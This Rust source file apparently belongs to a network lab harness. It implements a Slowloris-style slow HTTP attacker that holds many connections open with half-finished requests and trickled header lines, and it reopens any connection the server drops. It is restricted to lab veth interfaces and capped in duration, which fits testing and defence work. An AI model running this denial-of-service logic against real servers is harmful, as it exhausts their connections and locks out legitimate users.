//! Slow attackers: each opens one real connection after the other, sends half a request, and from then on a header
//! line now and then, so that the server waits for the rest.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use anyhow::Result;

use super::http::Connection;
use super::http_flood::{HttpFlood, Tally};
use crate::lab::{Core, Interface};

/// How long an attacker waits for a connection, and before it replaces one that the server closed.
const PATIENCE: Duration = Duration::from_secs(1);
const BEFORE_RETRY: Duration = Duration::from_millis(200);
const HALF_A_REQUEST: &str = "GET /small.html HTTP/1.1\r\nHost: victim\r\n";
const HEADER_LINE: &str = "X-Wait: a while\r\n";

/// How slow attackers go about it.
#[derive(Clone, Copy, Debug)]
pub struct SlowPace {
    /// Connections that each attacker keeps.
    pub connections: u32,
    /// Between the beginnings of two connections of one attacker.
    pub step: Duration,
    /// Between two header lines on one connection.
    pub line_every: Duration,
}

impl HttpFlood {
    /// Starts to keep connections to `server` waiting from the addresses `attackers` behind `interface`, for
    /// `duration`. What is recorded are connections opened.
    ///
    /// # Errors
    ///
    /// When the interface is not a lab's veth, or the time is longer than [`super::LONGEST`].
    pub fn start_slow(
        interface: &Interface,
        attackers: &[IpAddr],
        server: SocketAddr,
        pace: SlowPace,
        duration: Duration,
        core: Core,
        origin: Instant,
    ) -> Result<Self> {
        let attackers = attackers.to_vec();
        Self::hold(interface, duration, core, origin, move |conversations, tally| {
            for number in 0..pace.connections {
                for &attacker in &attackers {
                    let tally = tally.clone();
                    conversations.spawn_local(async move {
                        tokio::time::sleep(pace.step * number).await;
                        loop {
                            // However it ended, it is replaced.
                            let _ = keep_waiting(attacker, server, pace.line_every, &tally).await;
                            tokio::time::sleep(BEFORE_RETRY).await;
                        }
                    });
                }
            }
        })
    }
}

/// Opens a connection and never finishes its request; returns when the server has enough.
async fn keep_waiting(
    attacker: IpAddr,
    server: SocketAddr,
    line_every: Duration,
    tally: &Tally,
) -> io::Result<()> {
    let mut connection = tokio::time::timeout(PATIENCE, Connection::open(attacker, server)).await??;
    tally.count();
    connection.send_piece(HALF_A_REQUEST).await?;
    loop {
        tokio::time::sleep(line_every).await;
        connection.send_piece(HEADER_LINE).await?;
    }
}
